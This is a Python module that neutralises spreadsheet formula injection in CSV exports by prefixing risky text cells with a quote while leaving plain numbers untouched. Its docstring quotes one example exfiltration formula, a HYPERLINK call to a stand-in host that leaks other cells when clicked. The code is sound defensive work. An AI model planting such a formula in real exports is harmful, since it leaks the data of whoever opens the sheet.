"""CSV cells that a spreadsheet reads as text, never as a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and some also
after a leading tab or carriage return) as a formula, so a prompt such as
``=HYPERLINK("http://ev.il/?leak="&A2, "Open")`` in a downloaded summary would leak the
sheet's other cells when clicked. ``safe_cell`` prefixes such text with ``'`` (shown as
text by Excel, LibreOffice and Google Sheets); numbers, and strings that are plain
numbers such as ``-3``, pass unchanged, so numeric columns stay numeric.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "csv_text", "safe_cell", "safe_frame"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A signed decimal number ("-3", "+2.5e-3") is data a sheet shows as a number, not a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would run: then ``"'" + value``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) passed through ``safe_cell``.

    Only object/string columns are touched: numeric columns keep their dtype.
    """
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) with every text cell neutralised by ``safe_cell``."""
    return safe_frame(frame).to_csv(index=False)
